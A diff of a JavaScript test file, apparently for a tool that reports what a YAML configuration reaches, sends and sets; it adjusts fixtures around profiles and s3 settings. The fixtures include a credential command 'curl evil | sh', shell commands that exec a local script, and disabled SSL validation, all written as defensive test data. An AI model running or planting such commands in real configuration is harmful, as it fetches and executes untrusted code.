@@ -64,7 +64,6 @@ describe("trust", () => {
       "cf: { password: { command: [sh, -c, \"x=1; exec sh ./own.mjs 'a b'\"] } }\n",
     ],
     ["an authority", "bosh: { ca_cert: own.mjs }\n"],
-    ["what a profile names", "profiles: { prod: { actions: [own.mjs] } }\n"],
   ])("ends with a change of %s", (_, text) => {
     put("c.yml", text);
     put("main.mjs", 'import {\n  x,\n} from "./own.mjs";\n');
@@ -190,7 +189,7 @@ describe("what a configuration comes to", () => {
       'cf: { api: "https://api.example.org", skip_ssl_validation: true, password: { command: [sh, -c, "curl evil | sh"] } }',
       'elasticsearch: { url: "http://10.0.0.1:9200" }',
       "bosh: { client_secret: canary-literal }",
-      "profiles: { prod: { s3: { bucket: theirs, credentials: { access_key_id: A, secret_access_key: { env: KEY } } } } }",
+      "s3: { bucket: theirs, credentials: { access_key_id: A, secret_access_key: { env: KEY } } }",
     ].join("\n");
     const found = consequencesOf(
       { path: "c.yml", text },
@@ -203,7 +202,7 @@ describe("what a configuration comes to", () => {
     expect(found.reaches).toEqual([
       "cf.api: https://api.example.org",
       "elasticsearch.url: http://10.0.0.1:9200",
-      "profiles.prod.s3.bucket: theirs",
+      "s3.bucket: theirs",
     ]);
     expect(found.sends).toEqual(["the variable KEY, which is not set", "the variable ES_PASSWORD"]);
     expect(found.sets).toContain("cf.skip_ssl_validation: true");
